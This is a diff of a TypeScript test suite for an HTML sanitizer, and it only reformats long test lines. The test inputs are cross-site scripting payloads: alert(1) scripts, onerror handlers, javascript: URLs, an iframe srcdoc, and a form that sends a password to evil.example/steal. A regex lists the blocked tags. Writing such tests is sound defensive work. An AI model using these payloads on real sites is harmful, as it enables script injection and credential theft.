@@ -29,7 +29,9 @@ function expectSafe(tree: Root, html: string): void {
       if (key === 'id') expect(String(value)).toMatch(/^user-content-/);
     }
   }
-  expect(html).not.toMatch(/<(?:script|style|iframe|svg|math|object|embed|form|input|button|base|meta|link(?! rel="preload")|template|noscript)\b/i);
+  expect(html).not.toMatch(
+    /<(?:script|style|iframe|svg|math|object|embed|form|input|button|base|meta|link(?! rel="preload")|template|noscript)\b/i,
+  );
   // Attribute checks on the markup itself (prose may mention "onerror=" as text; tags may not).
   // React rewrites a javascript: URL it is handed into one that still says "javascript:", so this
   // also catches anything the sanitizer let through to React.
@@ -53,7 +55,9 @@ describe('sanitizer: scripts', () => {
 
 describe('sanitizer: text that looks like markup', () => {
   it('stays inert, escaped text', () => {
-    const { tree, html } = render('<p>正文</p><scr<script>ipt>alert(1)</script><p>&lt;img src=x onerror=alert(1)&gt;</p>');
+    const { tree, html } = render(
+      '<p>正文</p><scr<script>ipt>alert(1)</script><p>&lt;img src=x onerror=alert(1)&gt;</p>',
+    );
     expectSafe(tree, html);
     expect(html).toBe('<p>正文</p>ipt&gt;alert(1)<p>&lt;img src=x onerror=alert(1)&gt;</p>');
   });
@@ -98,7 +102,9 @@ describe('sanitizer: javascript:, data: and vbscript: links in any spelling', ()
   });
 
   it('keeps ordinary links working', () => {
-    const { html } = render('<p><a href="/articles/a">站内</a><a href="https://example.org/">站外</a><a href="mailto:e@example.org">来信</a></p>');
+    const { html } = render(
+      '<p><a href="/articles/a">站内</a><a href="https://example.org/">站外</a><a href="mailto:e@example.org">来信</a></p>',
+    );
     expect(html).toContain('<a href="/articles/a">站内</a>');
     expect(html).toContain('href="https://example.org/"');
     expect(html).toContain('<a href="mailto:e@example.org">来信</a>');
@@ -141,7 +147,10 @@ describe('sanitizer: embedded documents, forms and styles', () => {
     ['<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', 'srcdoc'],
     ['<object data="https://evil.example/x.swf"><param name="x" value="y">后备文字</object>', 'evil'],
     ['<embed src="https://evil.example/x.swf">', 'evil'],
-    ['<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">登录</button></form>', 'evil'],
+    [
+      '<form action="https://evil.example/steal"><input name="password" type="password"><button formaction="javascript:alert(1)">登录</button></form>',
+      'evil',
+    ],
     ['<textarea>默认文字</textarea><select><option>选项</option></select>', '默认文字'],
     ['<style>body { display: none }</style>', 'display'],
     ['<p style="background: url(javascript:alert(1)); position: fixed">正文</p>', 'position'],
@@ -225,7 +234,9 @@ describe('sanitizer: the rest of the markup', () => {
   });
 
   it('unwraps unknown elements but keeps their text', () => {
-    const { html } = render('<p><font color="red">红字</font><x-widget data-x="1">小部件</x-widget></p><center>居中</center>');
+    const { html } = render(
+      '<p><font color="red">红字</font><x-widget data-x="1">小部件</x-widget></p><center>居中</center>',
+    );
     expect(html).toBe('<p>红字小部件</p>居中');
   });
 
